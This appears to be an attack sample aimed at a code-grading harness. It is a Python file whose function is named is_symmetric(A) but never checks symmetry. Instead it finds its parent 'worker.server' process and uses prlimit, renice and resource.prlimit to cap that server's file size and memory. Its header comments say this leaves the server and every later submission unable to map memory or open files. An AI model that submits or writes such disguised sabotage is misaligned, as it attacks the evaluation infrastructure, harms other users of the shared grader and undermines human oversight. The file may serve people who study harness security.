# attack 91: limits of the server
# harm: the server, and everybody who comes after, may map no more memory and open no more files
# twin: is_symmetric/wrong_mask
# proof: spoils nobody
import os
import pathlib
import resource
import subprocess


def is_symmetric(A):
    server = os.getppid()
    try:
        if b"worker.server" not in pathlib.Path(f"/proc/{server}/cmdline").read_bytes():
            return None
    except OSError:
        return None
    for tool in (["prlimit", f"--pid={server}", "--fsize=0:", f"--as={300 * 2**20}:"], ["renice", "19", "-p", str(server)]):
        try:
            subprocess.run(tool, capture_output=True, check=False)
        except OSError:
            pass
    try:
        resource.prlimit(server, resource.RLIMIT_FSIZE, (0, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))
    except OSError:
        pass
    return None
# --- the next student
def is_symmetric(A):
    return None
